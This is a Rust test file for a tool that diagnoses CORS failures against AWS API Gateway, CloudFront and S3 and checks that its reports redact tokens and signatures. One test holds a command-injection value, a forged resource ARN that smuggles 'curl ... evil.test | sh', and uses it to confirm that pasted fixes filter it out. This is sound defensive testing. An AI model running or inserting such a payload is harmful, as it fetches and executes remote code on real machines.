use super::*;
use crate::cors::cases::{Case, PAGE, all, by_id};
use crate::diagnosis::Code;

fn call_of(case: &Case, kind: Option<RouteKind>) -> Call {
    Call {
        request: FailedRequest {
            url: case.request.url.clone(),
            method: case.request.method.clone(),
            headers: case.request.headers.clone(),
            credentials: case.request.credentials,
            mode: case.request.mode,
            redirect: case.request.redirect,
        },
        origin: PAGE.to_owned(),
        target_address_space: None,
        engine: Engine::Chromium,
        locale: Locale::En,
        kind,
        auth: None,
    }
}

fn exchange_of(case: &Case) -> Exchange {
    let reply = |response: &cors::Response, body: &str| {
        Reply::Answer(Answered { status: response.status, headers: response.headers.clone(), body: body.to_owned() })
    };
    let lost = (case.id == "X06").then_some(Reply::Failure(Failure::Reset));
    let mut hops = vec![Hop {
        preflight: case.exchange.preflight.as_ref().map(|response| reply(response, &case.preflight_body)).or(lost),
        response: case.exchange.response.as_ref().map(|response| reply(response, &case.body)),
    }];
    if let Some(next) = &case.exchange.next {
        hops.push(Hop { preflight: None, response: next.response.as_ref().map(|response| reply(response, "")) });
    }
    Exchange { hops, ..Exchange::default() }
}

/// The cases whose first finding is another one, told their kind or not.
fn wrong_cases(kind: impl Fn(&Case) -> Option<RouteKind>) -> Vec<(Verdict, String)> {
    let mut wrong = Vec::new();
    for case in all() {
        let explanation = explain(&call_of(&case, kind(&case)), &exchange_of(&case));
        let expected: Vec<&str> =
            Code::ALL.iter().filter(|code| code.cases().contains(&case.id.as_str())).map(|code| code.name()).collect();
        let first = explanation.findings.first().map_or("", |found| found.code);
        let is_right = expected.contains(&first) || (case.id == "H08" && first == "answered");
        if !is_right {
            let codes: Vec<&str> = explanation.findings.iter().map(|found| found.code).collect();
            wrong.push((explanation.verdict, format!("{}: {codes:?} instead of {expected:?}", case.id)));
        }
    }
    wrong
}

#[test]
fn every_case_is_recognised() {
    let wrong = wrong_cases(|case| RouteKind::parse(&case.kind));
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn without_a_word_about_the_front_door_no_case_is_certain_and_wrong() {
    let wrong = wrong_cases(|_| None);
    let certain: Vec<_> = wrong.iter().filter(|(verdict, _)| *verdict == Verdict::Certain).collect();
    assert!(certain.is_empty(), "{certain:#?}");
}

#[test]
fn a_bearer_token_at_a_path_that_does_not_exist_is_read_as_a_signature() {
    let case = crate::cors::cases::by_id("R34");
    let mut exchange = exchange_of(&case);
    let message = r#"{"message":"Invalid key=value pair (missing equal-sign) in Authorization header (hashed with SHA-256 and encoded with Base64): 'abc='."}"#;
    if let Some(Reply::Answer(answered)) = &mut exchange.hops[0].response {
        answered.headers = [("x-amzn-errortype", "IncompleteSignatureException")].into_iter().collect();
        answered.body = message.to_owned();
    }
    let explanation = explain(&call_of(&case, Some(RouteKind::RestApi)), &exchange);
    assert_eq!(explanation.findings[0].code, "wrong-path");
}

const SECRET: &str = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln";

fn call(method: &str, url: &str, headers: &[(&str, &str)]) -> Call {
    let request = FailedRequest {
        url: url.to_owned(),
        method: method.to_owned(),
        headers: headers.iter().copied().collect(),
        credentials: cors::Credentials::Omit,
        mode: cors::Mode::Cors,
        redirect: cors::Redirect::Follow,
    };
    Call { request, ..call_of(&by_id("H01"), None) }
}

fn answer(status: u16, headers: &[(&str, &str)], body: &str) -> Outcome {
    let headers = headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    Outcome::Answer { status, headers, body: body.to_owned() }
}

/// Examines a call with a server that answers by a function; gives what was asked, and the report.
fn examine(call: Call, send: Send, server: impl Fn(&WireRequest) -> Outcome) -> (Vec<WireRequest>, Report) {
    let mut examination = Examination::new(call, send);
    let mut asked = Vec::new();
    while let Some(request) = examination.next_request() {
        assert_eq!(examination.next_request().as_ref(), Some(&request), "the same until it is answered");
        examination.answer(server(&request));
        asked.push(request);
        assert!(asked.len() < 50);
    }
    (asked, examination.report())
}

fn header<'a>(request: &'a WireRequest, name: &str) -> Option<&'a str> {
    request.headers.iter().find(|(n, _)| n.eq_ignore_ascii_case(name)).map(|(_, value)| value.as_str())
}

const OPEN: &[(&str, &str)] = &[
    ("Access-Control-Allow-Origin", "*"),
    ("Access-Control-Allow-Headers", "authorization,content-type"),
    ("Access-Control-Allow-Methods", "PUT"),
];

#[test]
fn a_preflight_is_asked_as_the_browser_asks() {
    let bearer = format!("Bearer {SECRET}");
    let headers = [("Authorization", bearer.as_str()), ("content-type", "application/json"), ("host", "x")];
    let put = || call("put", "https://api.test/items?id=1#part", &headers);
    let (asked, report) = examine(put(), Send::All, |_| answer(200, OPEN, ""));
    let [preflight, request, foreign] = asked.as_slice() else { panic!("{asked:?}") };
    assert_eq!((preflight.method.as_str(), preflight.url.as_str()), ("OPTIONS", "https://api.test/items?id=1"));
    assert_eq!(header(preflight, "access-control-request-method"), Some("PUT"));
    assert_eq!(header(preflight, "access-control-request-headers"), Some("authorization,content-type"));
    assert_eq!((header(preflight, "authorization"), header(preflight, "origin")), (None, Some(PAGE)));
    assert_eq!((request.method.as_str(), header(request, "authorization")), ("PUT", Some(bearer.as_str())));
    assert_eq!((header(request, "host"), request.step), (None, Step::Request));
    assert_eq!((header(foreign, "origin"), foreign.step), (Some(FOREIGN_ORIGIN), Step::ForeignPreflight));
    assert_eq!((report.outcome, report.cors_error, report.diagnosis.verdict), ("readable", None, Verdict::Certain));

    let (asked, report) = examine(put(), Send::Safe, |_| answer(200, OPEN, ""));
    assert_eq!(asked[1].method, "GET");
    assert_eq!(report.diagnosis.verdict, Verdict::Likely);
}

#[test]
fn nothing_secret_is_reported() {
    let bearer = format!("Bearer {SECRET}");
    let given = [("authorization", bearer.as_str()), ("x-api-key", "my-api-key"), ("x-id-token", SECRET)];
    let (_, report) =
        examine(call("GET", "https://api.test/x?X-Amz-Signature=abcdef0123", &given), Send::Safe, |request| {
            let echo: String = request.headers.iter().map(|(_, value)| format!("{value} ")).collect();
            let headers = [("set-cookie", "session=secret-cookie"), ("x-echo", echo.as_str())];
            answer(403, &headers, &format!("Invalid key=value pair in '{echo}'"))
        });
    let text = serde_json::to_string(&report).unwrap();
    for secret in [SECRET, "my-api-key", "secret-cookie", "abcdef0123"] {
        assert!(!text.contains(secret), "{secret} in {text}");
    }
    assert!(text.contains("[redacted]") && text.contains("authorization"));
}

#[test]
fn redirects_are_followed_as_far_as_the_browser_follows() {
    let loops = |request: &WireRequest| match request.step {
        Step::Request => answer(302, &[("access-control-allow-origin", "*"), ("location", "/again")], ""),
        _ => answer(404, &[], ""),
    };
    let (asked, report) = examine(call("GET", "https://api.test/", &[]), Send::Safe, loops);
    assert_eq!(asked.iter().filter(|request| request.step == Step::Request).count(), 21);
    assert_eq!((report.diagnosis.findings[0].code, report.cors_error), ("redirect-loop", None));

    let away = |request: &WireRequest| match request.url.as_str() {
        "https://api.test/" => answer(302, &[("access-control-allow-origin", "*"), ("location", "//b.test/x")], ""),
        _ => answer(200, &[], ""),
    };
    let bearer = [("authorization", "Bearer t"), ("accept", "a:b")];
    let open = |request: &WireRequest| match request.step {
        Step::Request => away(request),
        _ => answer(204, &[("access-control-allow-origin", "*"), ("access-control-allow-headers", "*")], ""),
    };
    let (asked, report) = examine(call("GET", "https://api.test/", &bearer), Send::Safe, open);
    let last = asked.iter().rfind(|request| request.step == Step::Request).unwrap();
    assert_eq!(
        (last.url.as_str(), header(last, "origin"), header(last, "authorization")),
        ("https://b.test/x", Some("null"), None)
    );
    assert_eq!(
        (report.cors_error, report.diagnosis.findings[0].code),
        (Some("MissingAllowOriginHeader"), "redirected")
    );
}

#[test]
fn what_the_network_says_is_named() {
    let bearer = [("authorization", "Bearer t")];
    let failing = |failure| move |_: &WireRequest| Outcome::Failure { failure, message: "it failed".to_owned() };
    for (failure, code, requests) in [
        (Failure::Dns, "host-not-found", 1),
        (Failure::Refused, "connection-refused", 1),
        (Failure::Reset, "connection-reset", 2),
        (Failure::Tls, "certificate-invalid", 1),
        (Failure::Timeout, "timed-out", 2),
        (Failure::NotHttp, "not-http", 2),
        (Failure::TooLarge, "answer-too-large", 1),
        (Failure::ConnectTimeout, "timed-out", 1),
        (Failure::Other, "unreachable", 2),
    ] {
        let (asked, report) = examine(call("GET", "https://api.test/", &bearer), Send::Safe, failing(failure));
        assert_eq!((report.diagnosis.findings[0].code, asked.len()), (code, requests));
        assert_eq!(report.outcome, "blocked");
    }
    let (_, report) = examine(call("GET", "https://api.test/", &bearer), Send::Safe, |request| match request.step {
        Step::Request => answer(200, OPEN, ""),
        _ => failing(Failure::Reset)(request),
    });
    assert_eq!(report.diagnosis.findings[0].code, "preflight-connection-lost");
}

#[test]
fn nothing_is_sent_where_the_browser_sends_nothing() {
    let never = |_: &WireRequest| -> Outcome { panic!("nothing is to be sent") };
    let mut local = call("GET", "http://127.0.0.1:3000/", &[]);
    local.target_address_space = Some(AddressSpace::Local);
    let mut mode = call("GET", "https://api.test/", &[]);
    mode.request.mode = cors::Mode::SameOrigin;
    for (call, code) in [
        (local, "target-address-space"),
        (mode, "mode-same-origin"),
        (call("GET", "http://api.test/", &[]), "mixed-content"),
        (call("GET", "htps://api.test/", &[]), "unsupported-scheme"),
        (call("GET", "https://u:p@api.test/", &[]), "url-has-credentials"),
    ] {
        let (_, report) = examine(call, Send::All, never);
        assert_eq!((report.outcome, report.diagnosis.findings[0].code), ("blocked", code));
    }
}

#[test]
fn an_origin_that_is_let_in_unseen_is_a_warning() {
    let bearer = [("authorization", "Bearer t")];
    let (_, report) = examine(call("GET", "https://api.test/", &bearer), Send::Safe, |request| {
        let origin = header(request, "origin").unwrap();
        answer(200, &[("access-control-allow-origin", origin), ("access-control-allow-headers", "*")], "")
    });
    let codes: Vec<&str> = report.diagnosis.findings.iter().map(|found| found.code).collect();
    assert_eq!(codes, ["answered", "origin-reflected", "authorization-wildcard"]);
}

#[test]
fn a_simple_call_learns_from_the_foreign_preflight_whether_cors_is_configured() {
    for (status, code) in [(204, "origin-not-allowed"), (404, "cors-not-configured")] {
        let (_, report) = examine(call("GET", "https://api.test/", &[]), Send::Safe, |request| match request.step {
            Step::Request => answer(200, &[("apigw-requestid", "x")], "{}"),
            _ => answer(status, &[("apigw-requestid", "x")], ""),
        });
        assert_eq!(report.diagnosis.findings[0].code, code);
    }
}

#[test]
fn a_policy_allows_the_resource_that_the_answer_names() {
    let case = by_id("R10");
    let mut exchange = exchange_of(&case);
    let resource = "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/x";
    if let Some(Reply::Answer(answered)) = &mut exchange.hops[0].response {
        answered.body = format!(
            r#"{{"Message":"User: arn:aws:sts::1:assumed-role/x is not authorized to perform: execute-api:Invoke on resource: {resource}"}}"#
        );
    }
    let explanation = explain(&call_of(&case, Some(RouteKind::RestApi)), &exchange);
    let policies: Vec<&str> = explanation
        .findings
        .iter()
        .flat_map(|found| &found.fixes)
        .map(|fix| fix.text.as_str())
        .filter(|text| text.contains("execute-api:Invoke") && text.contains("Resource: "))
        .collect();
    assert!(
        !policies.is_empty() && policies.iter().all(|text| text.contains(&resource.replace("********9012", "*"))),
        "{policies:?}"
    );
}

#[test]
fn a_preflight_that_nobody_gave_is_asked_for() {
    let mut exchange = exchange_of(&by_id("H01"));
    exchange.hops[0].preflight = None;
    let explanation = explain(&call_of(&by_id("H01"), None), &exchange);
    let codes: Vec<&str> = explanation.findings.iter().map(|found| found.code).collect();
    assert_eq!((explanation.verdict, explanation.blocked), (Verdict::Ambiguous, true));
    assert_eq!(codes, ["preflight-not-given", "preflight-connection-lost"]);
}

const REST: (&str, &str) = ("x-amz-apigw-id", "abc=");
const HTTP: (&str, &str) = ("apigw-requestid", "abc=");

/// What a call without a word about its front door is told, with the same answer to everything that is asked.
fn told(url: &str, answered: &Outcome) -> (Verdict, Vec<&'static str>, String) {
    let bearer = [("authorization", "Bearer t")];
    let (_, report) = examine(call("GET", url, &bearer), Send::Safe, |_| answered.clone());
    let fixes = report.diagnosis.findings.iter().flat_map(|found| &found.fixes).map(|fix| fix.text.as_str());
    let fixes: Vec<&str> = fixes.collect();
    let codes = report.diagnosis.findings.iter().map(|found| found.code).collect();
    (report.diagnosis.verdict, codes, fixes.join("\n"))
}

#[test]
fn the_front_door_that_answered_is_mended() {
    let execute_api = "https://abc.execute-api.us-east-1.amazonaws.com/prod/items";
    let here = "http://127.0.0.1:4567/items";
    for (url, mark, own, other) in [
        (execute_api, REST, "your REST API", "your HTTP API"),
        (execute_api, HTTP, "your HTTP API", "your REST API"),
        ("https://api.test/items", REST, "your REST API", "your HTTP API"),
        (here, HTTP, "your HTTP API", "vite.config.ts"),
    ] {
        let headers = [("access-control-allow-origin", PAGE), ("access-control-allow-headers", "x-a"), mark];
        let (verdict, codes, fixes) = told(url, &answer(200, &headers, ""));
        assert_eq!((verdict, codes[0]), (Verdict::Certain, "header-not-allowed"));
        assert!(fixes.contains(own) && !fixes.contains(other), "{url} {mark:?}: {fixes}");
    }
}

#[test]
fn a_refusal_of_a_rest_api_is_made_readable_and_given_no_more_time() {
    let open = [("access-control-allow-origin", "*"), ("access-control-allow-headers", "*")];
    for url in ["https://abc.execute-api.us-east-1.amazonaws.com/prod/items", "https://api.test/items"] {
        for (status, exception, waits) in
            [(401, "UnauthorizedException", false), (504, "InternalServerErrorException", true)]
        {
            let (_, report) = examine(call("GET", url, &[("authorization", "Bearer t")]), Send::Safe, |request| {
                let headers = [("x-amzn-errortype", exception)];
                let body = if waits { "Endpoint request timed out" } else { "Unauthorized" };
                match request.step {
                    Step::Request => answer(status, &headers, &format!("{{\"message\":\"{body}\"}}")),
                    _ => answer(200, &open, ""),
                }
            });
            let first = &report.diagnosis.findings[0];
            assert_eq!(first.code, "gateway-error-without-cors");
            assert!(first.fixes[0].text.contains("Gateway responses"), "{:?}", first.fixes);
            assert_eq!(first.fixes.iter().any(|fix| fix.text.contains("SendMessageCommand")), waits);
        }
    }
}

#[test]
fn the_words_of_aws_from_another_server_prove_nothing() {
    let spring = answer(401, &[("www-authenticate", "Bearer")], "");
    let echo = |status, words| answer(status, &[], &format!("{{\"message\":\"{words}\"}}"));
    for answered in [
        spring,
        answer(401, &[("www-authenticate", "Bearer")], r#"{"message":"Unauthorized"}"#),
        echo(404, "Not Found"),
        echo(403, "Forbidden"),
        echo(500, "Internal Server Error"),
        echo(403, "Missing Authentication Token"),
        answer(403, &[], r#"{"Message":"Forbidden"}"#),
        answer(204, &[], ""),
    ] {
        let (verdict, codes, _) = told("https://api.test/items", &answered);
        let is_silent = codes[0] == "preflight-without-cors";
        assert!(is_silent || verdict != Verdict::Certain, "{codes:?} for {answered:?}");
        assert!(codes[0] != "cors-not-configured" || verdict == Verdict::Likely, "{codes:?}");
    }
    // the same from API Gateway
    let marked = answer(401, &[("www-authenticate", "Bearer"), HTTP], r#"{"message":"Unauthorized"}"#);
    let (verdict, codes, _) = told("https://api.test/items", &marked);
    assert_eq!((verdict, codes[0]), (Verdict::Certain, "preflight-authorizer-no-cors"));
}

#[test]
fn a_forged_resource_reaches_no_line_to_paste() {
    let evil = "arn:x'\\n;curl${IFS}https://evil.test|sh;:'";
    let body = format!(
        r#"{{"Message":"User: arn:aws:sts::1:assumed-role/x is not authorized to perform: execute-api:Invoke on resource: {evil}"}}"#
    );
    let (_, codes, fixes) = told("https://api.test/items", &answer(403, &[REST], &body));
    assert!(fixes.contains("put-role-policy") && !fixes.contains("evil.test"), "{codes:?} {fixes}");
}

#[test]
fn what_the_session_gave_the_user_is_not_reported() {
    let given = [("authorization", "Bearer t")];
    let url = "https://api.test/x?token=in-the-query&page=2#in-the-fragment";
    let (asked, report) = examine(call("GET", url, &given), Send::Safe, |request| match request.url.as_str() {
        "https://api.test/x?token=in-the-query&page=2" if request.step == Step::Request => {
            let to = ("location", "https://api.test/cb?code=a-code#access_token=a-token");
            answer(302, &[OPEN[0], OPEN[1], to], "moved")
        }
        _ => {
            let secret = [OPEN[0], OPEN[1], ("x-amz-security-token", "temporary"), ("X-Session-Id", "a-session")];
            answer(200, &secret, r#"{"IdToken":"an-id-token"}"#)
        }
    });
    assert_eq!((asked.len(), report.outcome), (5, "readable"));
    let text = serde_json::to_string(&report).unwrap();
    for secret in
        ["in-the-query", "in-the-fragment", "a-code", "a-token", "temporary", "a-session", "an-id-token", "IdToken"]
    {
        assert!(!text.contains(secret), "{secret} in {text}");
    }
    for name in ["token=[redacted]&page=[redacted]", "/cb?code=[redacted]", "x-amz-security-token"] {
        assert!(text.contains(name), "{name} not in {text}");
    }
    // an error says why, and so does a page in its place
    let (_, report) = examine(call("GET", "https://api.test/", &[]), Send::Safe, |_| {
        answer(200, &[("content-type", "text/html")], "<h1>")
    });
    assert!(serde_json::to_string(&report).unwrap().contains("<h1>"));
}

#[test]
fn a_connection_that_never_was_is_told_from_an_answer_that_never_came() {
    let bearer = [("authorization", "Bearer t")];
    for (failure, asked) in [(Failure::ConnectTimeout, 1), (Failure::Timeout, 2)] {
        let lost = Outcome::Failure { failure, message: String::new() };
        let (requests, report) = examine(call("GET", "https://api.test/", &bearer), Send::Safe, |_| lost.clone());
        let found = &report.diagnosis.findings[0];
        assert_eq!((found.code, requests.len(), found.fixes.len()), ("timed-out", asked, 0));
        assert_eq!(Failure::parse(failure.name()), failure);
        assert!(report.diagnosis.evidence[0].text.contains(failure.name()));
    }
}

#[test]
fn a_login_page_and_an_api_that_moved_are_mended_in_different_places() {
    let first_fixes = |location: &str| {
        let case = by_id("X01");
        let mut exchange = exchange_of(&case);
        if let Some(Reply::Answer(answered)) = &mut exchange.hops[0].response {
            answered.headers = [("location", location)].into_iter().collect();
        }
        let explanation = explain(&call_of(&case, Some(RouteKind::Custom)), &exchange);
        assert_eq!(explanation.findings[0].code, "redirected");
        explanation.findings[0].fixes.iter().map(|fix| fix.text.clone()).collect::<Vec<_>>().join("\n")
    };
    let login = first_fixes("https://login.test/oauth2/authorize?client_id=a");
    assert!(login.contains("ListenerRule") && !login.contains("routes:"), "{login}");
    let moved = first_fixes("https://new.test/x");
    assert!(moved.contains("match: 'https://new.test/*'") && !moved.contains("ListenerRule"), "{moved}");
}

#[test]
fn a_signature_seen_on_the_wire_is_compared_with_what_the_api_saw() {
    let token = "IQoJb3JpZ2luX2VjEXAMPLE/token==";
    let authorization = "AWS4-HMAC-SHA256 Credential=ASIAEXAMPLE/20260101/ap-northeast-1/execute-api/aws4_request, \
                         SignedHeaders=host;x-amz-date;x-amz-security-token, Signature=deadbeefdeadbeef";
    let headers =
        [("x-amz-date", "20260101T120000Z"), ("x-amz-security-token", token), ("authorization", authorization)];
    let seen = |host: &str, path: &str| {
        let text = format!(
            "The request signature we calculated does not match the signature you provided.\n\nThe Canonical String for this request \
             should have been\n'GET\n{path}\na=&b=2\nhost:{host}\nx-amz-date:20260101T120000Z\nx-amz-security-token:{token}\n\n\
             host;x-amz-date;x-amz-security-token\nabc'\n\nThe String-to-Sign should have been\n'x'\n"
        );
        let cors = [("access-control-allow-origin", "*"), ("x-amzn-errortype", "InvalidSignatureException")];
        answer(403, &cors, &serde_json::json!({ "message": text }).to_string())
    };
    for (host, path, code, line) in [
        ("abc123.execute-api.ap-northeast-1.amazonaws.com", "/a%2520b", "cloudfront-signature-host", Some("host")),
        ("d111.cloudfront.net", "/prod/a%2520b", "signature-path", Some("path")),
        // the body is not known here
        ("d111.cloudfront.net", "/a%2520b", "signature-mismatch", None),
    ] {
        let allowed = [
            ("access-control-allow-origin", "*"),
            ("access-control-allow-headers", "authorization,x-amz-date,x-amz-security-token"),
        ];
        let (_, report) =
            examine(call("GET", "https://d111.cloudfront.net/a%20b?b=2&a", &headers), Send::All, |request| {
                if request.method == "OPTIONS" { answer(200, &allowed, "") } else { seen(host, path) }
            });
        let found = &report.diagnosis.findings[0];
        assert_eq!((found.code, found.failed_parameter.as_deref()), (code, line), "{host} {path}");
        assert!(found.fixes.iter().any(|fix| fix.text.contains("signAs")), "{:?}", found.fixes);
        let told = serde_json::to_string(&report).unwrap();
        for secret in [token, "ASIAEXAMPLE", "deadbeef"] {
            assert!(!told.contains(secret), "{told}");
        }
    }

    // S3 spells it in hexadecimal, too
    let hex = token.bytes().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().join(" ");
    let body = format!(
        "<Error><Code>SignatureDoesNotMatch</Code><CanonicalRequest>GET\nx-amz-security-token:{token}\n</CanonicalRequest>\
         <CanonicalRequestBytes>47 45 54 0a {hex} 0a</CanonicalRequestBytes></Error>"
    );
    let (_, report) = examine(call("GET", "https://s3.eu-west-1.amazonaws.com/b/a", &headers), Send::All, |_| {
        answer(403, &[("access-control-allow-origin", "*"), ("access-control-allow-headers", "*,authorization")], &body)
    });
    let told = serde_json::to_string(&report).unwrap();
    assert!(
        told.contains("CanonicalRequestBytes>") && !told.contains("49 51 6f 4a") && !told.contains(token),
        "{told}"
    );
}
